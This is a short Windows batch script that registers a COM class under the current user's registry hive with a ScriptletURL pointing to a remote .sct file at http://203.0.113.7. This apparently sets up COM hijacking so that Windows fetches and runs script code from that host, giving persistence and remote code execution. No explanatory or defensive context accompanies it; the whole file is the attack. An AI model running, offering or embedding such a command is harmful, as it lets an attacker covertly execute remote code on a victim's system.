@echo off
reg add "HKCU\Software\Classes\CLSID\{00000001-0000-0000-0000-0000feedacdc}\ScriptletURL" /ve /d "http://203.0.113.7/a.sct" /f
